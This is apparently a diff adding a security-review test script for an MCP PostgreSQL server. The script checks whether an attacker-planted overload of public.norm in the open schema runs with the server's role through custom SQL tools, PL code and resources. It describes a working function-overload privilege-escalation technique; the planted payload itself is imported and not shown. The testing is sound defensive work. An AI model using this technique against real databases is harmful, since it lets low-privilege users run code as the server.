@@ -1,0 +1,118 @@
+"""attack5 F1/F2: custom definitions reach a function NAME in the open schema `public`, with
+default settings (MCP_ALLOW_OPEN_SCHEMA_CODE=false), so an overload the attacker plants there
+(`public.norm(varchar)`, an exact match beating the DBA's `public.norm(text)`) runs as the
+server's role on every call: no race.
+
+- F1 (sql tool/resource): custom SQL calling a trusted function (`app.people_norm()`, SQL
+  body; `app.people_norm_pl()`, PL/pgSQL; `public.people_report()`, no arguments) whose body
+  names `public.norm(...)` qualified, as docs/custom-definitions.md advises. resolve.py
+  checks only the called function itself (its schema, its own search_path), never the
+  names in its body. Control: the BEGIN ATOMIC body (`app.people_norm_atomic()`) resolved at
+  creation: held. execute_query of the same SQL is refused (`open_schema_code`): held.
+- F2 (pl-func / pl-do): PL code naming `public.norm(name)` qualified: not checked at all.
+
+Usage (bed.py and setup.py first, see ../README.md):
+  PYTHONPATH=tests:security-review:security-review/attack5 uv run python \
+      security-review/attack5/custom_qualified.py [before|after]
+`before`: planted before the server starts (the start's check sees it); `after`: planted
+after the first, clean call. Prints FINDING lines; exits 1 if any."""
+from __future__ import annotations
+
+import asyncio
+import sys
+import tempfile
+import textwrap
+from pathlib import Path
+
+from common5 import ATTACKER, DROP_NORM, PLANT_NORM, READER, Notices, execute, pwned, reset_db, tool
+from mcpclient import connect
+
+DEFS = """
+tools:
+  - name: sql_body
+    type: sql
+    sql: SELECT n FROM app.people_norm() AS n
+  - name: pl_body
+    type: sql
+    sql: SELECT app.people_norm_pl() AS n
+  - name: no_args_public
+    type: sql
+    sql: SELECT public.people_report() AS n
+  - name: atomic_body
+    type: sql
+    sql: SELECT n FROM app.people_norm_atomic() AS n
+  - name: pl_func
+    type: pl-func
+    language: plpgsql
+    returns: text
+    code: |
+      BEGIN
+        RETURN (SELECT string_agg(public.norm(p.name), ',' ORDER BY p.id) FROM app.people p);
+      END;
+  - name: pl_do
+    type: pl-do
+    language: plpgsql
+    code: |
+      BEGIN
+        result := to_jsonb((SELECT string_agg(public.norm(p.name), ',' ORDER BY p.id)
+                            FROM app.people p));
+      END;
+resources:
+  - uri: custom://norm
+    name: Norm
+    type: sql
+    mimeType: application/json
+    sql: SELECT n FROM app.people_norm() AS n
+"""
+TOOLS = ["sql_body", "pl_body", "no_args_public", "atomic_body", "pl_func", "pl_do"]
+CONTROLS = {  # execute_query of the same reads: the guard refuses them
+    "execute_query sql body": "SELECT n FROM app.people_norm() AS n",
+    "execute_query pl body": "SELECT app.people_norm_pl() AS n",
+    "execute_query no-args public": "SELECT public.people_report() AS n",
+    "execute_query qualified": "SELECT public.norm(name) FROM app.people",
+}
+
+
+async def main(when: str) -> int:
+    await reset_db()
+    if when == "before":
+        await execute(ATTACKER, PLANT_NORM)
+    d = Path(tempfile.mkdtemp())
+    (d / "defs.yaml").write_text(textwrap.dedent(DEFS))
+    found = 0
+    try:
+        async with connect(READER, custom_definitions=str(d / "defs.yaml")) as c:
+            if when == "after":
+                for name in TOOLS:
+                    ok, body = await tool(c, name)
+                    print(f"clean call {name}: ok={ok} {str(body)[:120]}")
+                await execute(ATTACKER, PLANT_NORM)
+            xid0 = await Notices().next_xid()
+            for name in TOOLS:
+                ok, body = await tool(c, name)
+                tag = "FINDING" if pwned(body) else "held"
+                found += tag == "FINDING"
+                print(f"{tag}: tool {name}: ok={ok} {str(body)[:220]}")
+            try:
+                r = await c.read_resource("custom://norm")
+                text = r.contents[0].text
+            except Exception as e:  # noqa: BLE001
+                text = f"error {e}"
+            tag = "FINDING" if "PWNED" in text else "held"
+            found += tag == "FINDING"
+            print(f"{tag}: resource custom://norm: {text[:220]}")
+            for label, sql in CONTROLS.items():
+                ok, body = await tool(c, "execute_query", sql=sql)
+                tag = "FINDING" if pwned(body) else "held"
+                found += tag == "FINDING"
+                print(f"{tag}: {label}: ok={ok} {str(body)[:160]}")
+            print(f"transaction IDs consumed meanwhile: {await Notices().next_xid() - xid0}")
+    except Exception as e:  # noqa: BLE001 - a refused start is a result here
+        print("start refused:", str(e)[:600])
+    finally:
+        await execute(ATTACKER, DROP_NORM)
+    return 1 if found else 0
+
+
+if __name__ == "__main__":
+    sys.exit(asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "before")))
